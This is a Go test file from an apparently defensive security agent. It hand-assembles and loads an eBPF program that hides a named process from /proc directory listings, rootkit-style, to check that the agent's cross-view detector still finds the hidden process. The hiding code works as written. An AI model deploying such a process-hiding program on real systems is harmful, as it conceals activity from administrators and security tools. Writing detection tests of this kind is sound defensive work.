package crossview

import (
	"encoding/binary"
	"errors"
	"os"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"unsafe"

	"golang.org/x/sys/unix"

	"hozen/agent/internal/probe"
	"hozen/agent/internal/probe/probetest"
	"hozen/internal/artifact/record"
)

// assembler writes instructions of eBPF (Documentation/bpf/standardization/instruction-set.rst).
type assembler struct {
	code   []byte
	labels map[string]int
	jumps  map[int]string // where the offset of a jump to a label is to be filled in
}

const (
	// Registers: the result and scratch, arguments, those that calls keep, the frame.
	r0, r1, r2, r3, r4, r6, r7, r8, r9, fp = 0, 1, 2, 3, 4, 6, 7, 8, 9, 10

	movImm, movReg, addImm, addReg, subReg, andReg = 0xb7, 0xbf, 0x07, 0x0f, 0x1f, 0x5f
	rshImm                                         = 0x77
	load64, load16, store64, store16, store64Imm   = 0x79, 0x69, 0x7b, 0x6b, 0x7a
	jump, jumpNeImm, jumpEqReg, jumpGeImm          = 0x05, 0x55, 0x1d, 0x35
	jumpGeReg, jumpSLeImm, jumpEqImm               = 0x3d, 0xd5, 0x15
	loadImm64, call, exit                          = 0x18, 0x85, 0x95

	// Helpers (bpf-helpers(7)).
	currentPIDTGID, writeUser, readUser, readKernel = 14, 36, 112, 113
)

func (a *assembler) op(code, dst, src byte, off int16, imm int32) {
	a.code = append(a.code, code, src<<4|dst)
	a.code = binary.NativeEndian.AppendUint16(a.code, uint16(off))
	a.code = binary.NativeEndian.AppendUint32(a.code, uint32(imm))
}

func (a *assembler) to(label string, code, dst, src byte, imm int32) {
	a.jumps[len(a.code)] = label
	a.op(code, dst, src, 0, imm)
}

func (a *assembler) imm64(dst byte, v uint64) {
	a.op(loadImm64, dst, 0, 0, int32(uint32(v)))
	a.op(0, 0, 0, 0, int32(uint32(v>>32)))
}

// read calls a helper that copies size bytes from where r3 points into the frame.
func (a *assembler) read(helper int32, frame int16, size int32) {
	a.op(movReg, r1, fp, 0, 0)
	a.op(addImm, r1, 0, 0, int32(frame))
	a.op(movImm, r2, 0, 0, size)
	a.op(call, 0, 0, 0, helper)
}

func (a *assembler) label(name string) { a.labels[name] = len(a.code) }

func (a *assembler) finish() []byte {
	for at, name := range a.jumps {
		binary.NativeEndian.PutUint16(a.code[at+2:], uint16(int16((a.labels[name]-at)/8-1)))
	}
	return a.code
}

// hider is a program for the tracepoint sys_exit: when the process tgid has listed a
// folder, it takes the entry called name out of what it got, as rootkits do: the entry
// before it is told to be longer. It spares all other processes of this machine.
func hider(tgid int, name string) []byte {
	const (
		origAX, si = 120, 104 // of struct pt_regs
		getdents64 = 217
		entries    = 2000 // how many of a list it looks at
		tmp        = -8
		before     = -32 // offset of the entry before
		length     = -64
		text       = -72
		longer     = -80
		reclen     = 16 // of struct linux_dirent64
		dname      = 19
	)
	var want [8]byte
	copy(want[:], name)
	mask := uint64(1)<<(8*(len(name)+1)) - 1 // its end too, and not what lies behind it

	a := &assembler{labels: map[string]int{}, jumps: map[int]string{}}
	a.op(load64, r7, r1, 0, 0) // the registers of the call
	a.op(load64, r8, r1, 8, 0) // what it returned: so many bytes
	a.to("out", jumpSLeImm, r8, 0, 0)
	a.op(call, 0, 0, 0, currentPIDTGID)
	a.op(rshImm, r0, 0, 0, 32)
	a.to("out", jumpNeImm, r0, 0, int32(tgid))
	a.op(movReg, r3, r7, 0, 0)
	a.op(addImm, r3, 0, 0, origAX)
	a.read(readKernel, tmp, 8)
	a.op(load64, r1, fp, tmp, 0)
	a.to("out", jumpNeImm, r1, 0, getdents64)
	a.op(movReg, r3, r7, 0, 0)
	a.op(addImm, r3, 0, 0, si)
	a.read(readKernel, tmp, 8)
	a.op(load64, r9, fp, tmp, 0) // the buffer
	a.op(movImm, r6, 0, 0, 0)    // entries so far
	a.op(movImm, r7, 0, 0, 0)    // offset of this one
	a.op(store64Imm, fp, 0, before, 0)
	a.label("next")
	a.to("out", jumpGeImm, r6, 0, entries)
	a.to("out", jumpGeReg, r7, r8, 0)
	a.op(addImm, r6, 0, 0, 1)
	a.op(store64Imm, fp, 0, length, 0)
	a.op(movReg, r3, r9, 0, 0)
	a.op(addReg, r3, r7, 0, 0)
	a.op(addImm, r3, 0, 0, reclen)
	a.read(readUser, length, 2)
	a.op(movReg, r3, r9, 0, 0)
	a.op(addReg, r3, r7, 0, 0)
	a.op(addImm, r3, 0, 0, dname)
	a.read(readUser, text, 8)
	a.op(load64, r2, fp, text, 0)
	a.imm64(r3, mask)
	a.op(andReg, r2, r3, 0, 0)
	a.imm64(r4, binary.NativeEndian.Uint64(want[:]))
	a.to("found", jumpEqReg, r2, r4, 0)
	a.op(store64, fp, r7, before, 0)
	a.op(load16, r1, fp, length, 0)
	a.op(addReg, r7, r1, 0, 0)
	a.to("next", jump, 0, 0, 0)
	a.label("found")
	a.to("out", jumpEqImm, r7, 0, 0) // the first one stays
	a.op(load64, r2, fp, before, 0)
	a.op(load16, r3, fp, length, 0)
	a.op(addReg, r3, r7, 0, 0)
	a.op(subReg, r3, r2, 0, 0)
	a.op(store16, fp, r3, longer, 0)
	a.op(movReg, r1, r9, 0, 0)
	a.op(addReg, r1, r2, 0, 0)
	a.op(addImm, r1, 0, 0, reclen)
	a.op(movReg, r2, fp, 0, 0)
	a.op(addImm, r2, 0, 0, longer)
	a.op(movImm, r3, 0, 0, 2)
	a.op(call, 0, 0, 0, writeUser)
	a.label("out")
	a.op(movImm, r0, 0, 0, 0)
	a.op(exit, 0, 0, 0, 0)
	return a.finish()
}

func bpf(cmd uintptr, attr []byte) (int, error) {
	fd, _, e := unix.Syscall(unix.SYS_BPF, cmd, uintptr(unsafe.Pointer(&attr[0])), uintptr(len(attr)))
	if e != 0 {
		return -1, e
	}
	return int(fd), nil
}

// attach loads a program of hider and runs it until stop is called. log is what the
// kernel's verifier says.
func attach(code []byte) (stop func(), log string, err error) {
	ne := binary.NativeEndian
	license, name, said := []byte("GPL\x00"), []byte("sys_exit\x00"), make([]byte, 1<<20)
	var pin runtime.Pinner
	defer pin.Unpin()
	address := func(b []byte) uint64 {
		pin.Pin(&b[0])
		return uint64(uintptr(unsafe.Pointer(&b[0])))
	}
	load := make([]byte, 64) // prog_type, insn_cnt, insns, license, log_level, log_size, log_buf
	ne.PutUint32(load, unix.BPF_PROG_TYPE_RAW_TRACEPOINT)
	ne.PutUint32(load[4:], uint32(len(code)/8))
	ne.PutUint64(load[8:], address(code))
	ne.PutUint64(load[16:], address(license))
	prog, err := bpf(unix.BPF_PROG_LOAD, load)
	if err != nil {
		ne.PutUint32(load[24:], 1)
		ne.PutUint32(load[28:], uint32(len(said)))
		ne.PutUint64(load[32:], address(said))
		_, _ = bpf(unix.BPF_PROG_LOAD, load)
		return nil, strings.TrimRight(string(said), "\x00"), os.NewSyscallError("bpf(BPF_PROG_LOAD)", err)
	}
	open := make([]byte, 16) // name, prog_fd
	ne.PutUint64(open, address(name))
	ne.PutUint32(open[8:], uint32(prog))
	at, err := bpf(unix.BPF_RAW_TRACEPOINT_OPEN, open)
	if err != nil {
		unix.Close(prog)
		return nil, "", os.NewSyscallError("bpf(BPF_RAW_TRACEPOINT_OPEN)", err)
	}
	return sync.OnceFunc(func() {
		unix.Close(at)
		unix.Close(prog)
	}), "", nil
}

// TestHiddenByEBPF lets a program in the kernel take a process out of every list of /proc
// that this process reads, and looks for it.
func TestHiddenByEBPF(t *testing.T) {
	asRoot(t)
	pid := pair(t)
	stop, log, err := attach(hider(os.Getpid(), strconv.Itoa(pid)))
	if errors.Is(err, unix.EPERM) || errors.Is(err, unix.ENOSYS) || errors.Is(err, unix.ENOENT) || strings.Contains(log, "cannot use helper bpf_probe_write_user") {
		t.Skip("this kernel lets no program of eBPF write into a process (kernel_lockdown(7) does so): ", err)
	}
	if err != nil {
		t.Fatalf("%v\n%s", err, log[max(0, len(log)-2000):])
	}
	defer stop()
	dir, err := unix.Open("/proc", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(dir)
	list, err := listed(dir)
	if err != nil || slices.Contains(list, pid) || !slices.Contains(list, os.Getpid()) {
		t.Fatalf("the scene does not hide: %v, %v", list, err)
	}
	var l probetest.Lines
	if err := New().Acquire(t.Context(), &l); err != nil && probe.AsMissing(err) == nil {
		t.Fatal(err)
	}
	finds, checks := findings(t, l.All)
	i := slices.IndexFunc(finds, func(f record.CrossFinding) bool { return f.PID == pid })
	if i < 0 {
		t.Fatalf("process %d is not found: %+v", pid, checks)
	}
	f := finds[i]
	if f.Finding != record.FindUnlisted || !slices.Equal(f.Args, []string{"hidden", "--marked=scene"}) || f.Exe == "" {
		t.Errorf("%s", f.AppendJSON(nil))
	}
	for _, v := range []record.View{{View: "getdents", Says: "absent"}, {View: "tgkill", Says: "there"}, {View: "lookup", Says: "there"}, {View: "own_proc", Says: "absent"}} {
		if !slices.Contains(f.Views, v) {
			t.Errorf("no %+v in %s", v, f.AppendJSON(nil))
		}
	}
	stop()
	if list, err := listed(dir); err != nil || !slices.Contains(list, pid) {
		t.Errorf("it stays hidden: %v", err)
	}
}
